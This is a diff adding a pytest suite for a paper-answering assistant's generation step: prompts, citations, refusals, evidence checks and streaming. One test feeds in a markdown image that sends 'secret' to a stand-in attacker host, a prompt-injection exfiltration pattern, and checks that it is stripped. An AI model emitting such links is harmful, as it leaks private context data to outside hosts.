@@ -1,0 +1,251 @@
+"""From a model's words to a checked draft, with a scripted model and the bundled embedding."""
+
+import pytest
+from llama_index.core.query_engine import RetrieverQueryEngine
+from llama_index.core.retrievers import BaseRetriever
+from llama_index.core.schema import NodeWithScore, QueryBundle, TextNode
+
+from assistant.answering.budget import Fitted, fit_passages
+from assistant.answering.generative import (
+    REFUSAL,
+    Generation,
+    GenerativeSynthesizer,
+    condense,
+    finish,
+    generate,
+    preview,
+    token_budget,
+)
+from assistant.answering.verdicts import Embed
+from assistant.embedding import open_embedding_model
+from assistant.errors import ProviderError
+from assistant.models import Paper, ScoredPaper, ScoredSentence, Usage
+from tests.fakes import ScriptedLLM
+
+SAFARI = Paper(
+    paper_id="safari",
+    display_title="SAFARI: Sparsity-enabled Federated Learning",
+    abstract="Links are unreliable. SAFARI prunes up to 80% of the model weights and keeps the accuracy.",
+)
+MEMRISTOR = Paper(
+    paper_id="memristor",
+    display_title="Memristor-based deep networks",
+    abstract="Computing-in-memory with memristors lowers the energy consumption of deep networks by a third.",
+)
+PAPERS = (
+    ScoredPaper(SAFARI, 1.0, {}, (ScoredSentence("Links are unreliable.", 0, 21, 0.4),)),
+    ScoredPaper(MEMRISTOR, 0.5),
+)
+QUESTION = "How much does SAFARI prune?"
+
+
+@pytest.fixture(scope="module")
+def embed() -> Embed:
+    return open_embedding_model().embed
+
+
+@pytest.fixture
+def fitted() -> Fitted:
+    return fit_passages(PAPERS, 1000, "gpt-4")
+
+
+def test_the_model_gets_numbered_passages_the_question_and_the_refusal_phrase() -> None:
+    llm = ScriptedLLM(replies=["SAFARI prunes up to 80% [1]."])
+    assert "".join(generate(QUESTION, PAPERS, llm)) == "SAFARI prunes up to 80% [1]."
+    ((system, rules), (user, request)) = llm.prompts[0]
+    assert (system, user) == ("system", "user")
+    assert REFUSAL in rules
+    assert request.index('<passage number="1">') < request.index(SAFARI.abstract)
+    assert request.index('<passage number="2">') < request.index(f"Question: {QUESTION}")
+
+
+def test_tokens_are_those_the_server_counted() -> None:
+    generation = generate(QUESTION, PAPERS, ScriptedLLM(replies=["Yes."], usage=(321, 7)))
+    list(generation)
+    assert generation.usage == Usage(321, 7)
+
+
+def test_tokens_are_estimated_where_the_server_does_not_count() -> None:
+    generation = generate(QUESTION, PAPERS, ScriptedLLM(replies=["One two three."], usage=None))
+    list(generation)
+    assert generation.usage.completion_tokens == 4
+    assert generation.usage.prompt_tokens > 150
+
+
+def test_a_server_that_dies_in_mid_answer_raises_after_what_it_said() -> None:
+    llm = ScriptedLLM(replies=[["SAFARI ", "prunes", ProviderError("gone", retryable=True)]])
+    generation = generate(QUESTION, PAPERS, llm)
+    with pytest.raises(ProviderError, match="gone"):
+        list(generation)
+    assert generation.text == "SAFARI prunes"
+
+
+def test_a_closed_generation_gives_no_more() -> None:
+    generation = generate(QUESTION, PAPERS, ScriptedLLM(replies=["One two three four."]))
+    next(generation)
+    generation.close()
+    assert list(generation) == []
+
+
+def test_passages_fit_a_small_window() -> None:
+    assert token_budget(ScriptedLLM(context_window=2048)) < 1300
+    assert token_budget(ScriptedLLM(context_window=128_000)) == 6000
+
+
+def test_a_cited_answer_becomes_a_checked_draft(fitted: Fitted, embed: Embed) -> None:
+    draft = finish("Answer: Energy falls by a third [2]. SAFARI prunes up to 80% of the weights (1).", fitted, embed)
+    assert draft.text == "Energy falls by a third [1]. SAFARI prunes up to 80% of the weights [2]."
+    assert [c.paper.paper_id for c in draft.citations] == ["memristor", "safari"]
+    assert [s.citations for s in draft.sentences] == [(1,), (2,)]
+    assert draft.sentences[1].verdict == "supported"
+    assert draft.citations[1].evidence[0].text.startswith("SAFARI prunes")
+    assert not (draft.refused or draft.partial or draft.uncited)
+
+
+def test_all_evidence_is_verbatim(fitted: Fitted, embed: Embed) -> None:
+    draft = finish("Memristors lower energy [2]. Nobody knows [1]. Yes [1].", fitted, embed)
+    for citation in draft.citations:
+        for e in citation.evidence:
+            assert citation.paper.abstract[e.start : e.end] == e.text
+
+
+def test_a_citation_of_a_sentence_that_claims_nothing_shows_the_passages_best_sentence(
+    fitted: Fitted, embed: Embed
+) -> None:
+    draft = finish("Yes [1].", fitted, embed)
+    assert [e.text for e in draft.citations[0].evidence] == ["Links are unreliable."]
+
+
+def test_an_uncited_sentence_gets_its_citation_from_the_check(fitted: Fitted, embed: Embed) -> None:
+    draft = finish(
+        "Memristors lower the energy consumption of deep networks by a third. Also SAFARI [1].", fitted, embed
+    )
+    assert draft.text.startswith("Memristors lower the energy consumption of deep networks by a third. [1]")
+    assert draft.citations[0].paper is MEMRISTOR
+    assert draft.added == 1
+
+
+def test_an_answer_that_nothing_supports_stays_uncited(fitted: Fitted, embed: Embed) -> None:
+    draft = finish("Bananas are rich in potassium and cure 12 diseases.", fitted, embed)
+    assert draft.uncited
+    assert draft.citations == ()
+    assert [s.verdict for s in draft.sentences] == ["unsupported"]
+
+
+def test_numbers_that_were_not_offered_are_counted(fitted: Fitted, embed: Embed) -> None:
+    draft = finish("SAFARI prunes up to 80% of the weights [1][7].", fitted, embed)
+    assert (draft.dropped, len(draft.citations)) == (1, 1)
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        REFUSAL,
+        "the papers do not say",
+        "The papers do not say [1].",
+        "The provided passages do not contain information about bananas.",
+        "I cannot answer this from the passages.",
+        "<think>Hm, [1]?</think>\nThe papers do not say.",
+        "",
+    ],
+)
+def test_a_refusal_is_recognised_and_not_shown(raw: str, fitted: Fitted, embed: Embed) -> None:
+    draft = finish(raw, fitted, embed)
+    assert (draft.refused, draft.text, draft.citations) == (True, "", ())
+    assert preview(raw, fitted) == ""
+
+
+def test_a_bare_refusal_phrase_after_a_supported_answer_is_dropped(fitted: Fitted, embed: Embed) -> None:
+    draft = finish(f"SAFARI prunes up to 80% of the model weights [1]. {REFUSAL}", fitted, embed)
+    assert draft.text == "SAFARI prunes up to 80% of the model weights [1]."
+    assert not draft.refused
+
+
+def test_a_part_that_the_papers_do_not_answer_makes_the_answer_partial(fitted: Fitted, embed: Embed) -> None:
+    raw = "SAFARI prunes up to 80% of the model weights [1]. The papers do not say how long it takes."
+    draft = finish(raw, fitted, embed)
+    assert draft.partial
+    assert draft.text == raw
+    assert draft.sentences[1].verdict is None
+
+
+@pytest.mark.parametrize(
+    "tail",
+    [
+        "\n\nSources:\n[1] SAFARI\n[2] Memristor",
+        "\n\n**References**\n1. SAFARI",
+        "\n\nQuestion: And energy?\nAnswer: Less [2].",
+        "\n</passage>",
+    ],
+)
+def test_lists_of_sources_and_invented_turns_are_cut(tail: str, fitted: Fitted, embed: Embed) -> None:
+    draft = finish("SAFARI prunes up to 80% [1]." + tail, fitted, embed)
+    assert draft.text == "SAFARI prunes up to 80% [1]."
+
+
+def test_an_answer_cut_by_the_token_limit_ends_with_its_last_whole_sentence(fitted: Fitted, embed: Embed) -> None:
+    draft = finish("SAFARI prunes up to 80% [1]. It also kee", fitted, embed, truncated=True)
+    assert draft.text == "SAFARI prunes up to 80% [1]."
+
+
+def test_an_injected_image_is_gone(fitted: Fitted, embed: Embed) -> None:
+    draft = finish("SAFARI prunes 80% [1]. ![x](https://bad.example/?q=secret)", fitted, embed)
+    assert "bad.example" not in draft.text
+
+
+def test_a_preview_shows_an_answer_as_it_grows_but_no_beginning_of_a_refusal(fitted: Fitted) -> None:
+    assert preview("The papers", fitted) == ""
+    assert preview("The papers show that [2", fitted) == "The papers show that"
+    assert preview("The papers show that [2].", fitted) == "The papers show that [1]."
+
+
+@pytest.mark.parametrize(
+    ("reply", "standalone"),
+    [
+        ("How much does SAFARI prune?", "How much does SAFARI prune?"),
+        ('Standalone question: "How much does SAFARI prune?"', "How much does SAFARI prune?"),
+        ("How much does SAFARI prune?\nIt prunes 80%.", "How much does SAFARI prune?"),
+    ],
+)
+def test_a_follow_up_is_rewritten(reply: str, standalone: str) -> None:
+    llm = ScriptedLLM(replies=[reply])
+    assert condense("And how much does it prune?", ["What is SAFARI?"], llm) == standalone
+    assert "- What is SAFARI?" in llm.prompts[0][1][1]
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "",
+        "SAFARI prunes up to 80% of the weights.",
+        "How much does ResNet50 prune?",
+        "What is SAFARI?",
+        "I'm sorry, I cannot help with that.",
+        "word " * 200,
+    ],
+)
+def test_junk_leaves_the_follow_up_as_it_is(reply: str) -> None:
+    llm = ScriptedLLM(replies=[reply])
+    assert condense("And how much does it prune?", ["What is SAFARI?"], llm) == "And how much does it prune?"
+
+
+def test_a_first_question_is_not_sent_for_rewriting() -> None:
+    assert condense("What is SAFARI?", [], ScriptedLLM()) == "What is SAFARI?"
+
+
+class _Fixed(BaseRetriever):
+    def _retrieve(self, query_bundle: QueryBundle) -> list[NodeWithScore]:
+        return [NodeWithScore(node=TextNode(text="x", metadata={"paper_id": "safari"}), score=1.0)]
+
+
+def test_the_synthesizer_streams_behind_llamaindexes_query_engine() -> None:
+    papers = {p.paper.paper_id: p for p in PAPERS}
+    llm = ScriptedLLM(replies=["SAFARI prunes up to 80% [1]."])
+    synthesizer = GenerativeSynthesizer(llm, lambda nodes: [papers[n.node.metadata["paper_id"]] for n in nodes])
+    engine = RetrieverQueryEngine(retriever=_Fixed(), response_synthesizer=synthesizer)
+    response = engine.query(QUESTION)
+    generation = response.response_gen
+    assert isinstance(generation, Generation)
+    assert list(generation) == ["SAFARI", " prunes", " up", " to", " 80%", " [1]."]
+    assert [p.paper for p in generation.fitted.passages] == [SAFARI]
+    assert "memristors" not in llm.prompts[0][1][1]
